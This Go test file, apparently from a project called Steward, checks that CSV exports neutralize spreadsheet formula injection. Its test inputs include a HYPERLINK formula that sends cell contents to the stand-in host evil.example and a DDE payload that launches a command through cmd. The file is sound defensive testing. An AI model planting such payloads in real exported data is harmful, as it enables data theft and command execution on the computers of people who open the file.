/*
Copyright 2026 The Steward Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package evidence

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// TestCSVNeutralizesFormulas: a tenant-chosen value that a spreadsheet
// would run as a formula is exported as text.
func TestCSVNeutralizesFormulas(t *testing.T) {
	cases := map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"x")`: `'=HYPERLINK("http://evil.example/?"&A1,"x")`,
		"+1+1":            "'+1+1",
		"-2+3":            "'-2+3",
		"@SUM(A1:A9)":     "'@SUM(A1:A9)",
		"\t=1":            "'\t=1",
		"payments":        "payments",
		"a=b":             "a=b",
		"":                "",
		"owner@x.example": "owner@x.example",
	}
	for in, want := range cases {
		if got := neutralizeFormula(in); got != want {
			t.Errorf("neutralizeFormula(%q) = %q, want %q", in, got, want)
		}
	}

	var buf bytes.Buffer
	if err := Write(&buf, "csv", []Row{{Namespace: "ns", Kind: "ServiceAccount", Name: "=cmd|' /C calc'!A0", Team: "+team"}}); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, cell := range records[1] {
		if cell != "" && (cell[0] == '=' || cell[0] == '+' || cell[0] == '-' || cell[0] == '@') {
			t.Errorf("exported cell %q starts a formula", cell)
		}
	}
}
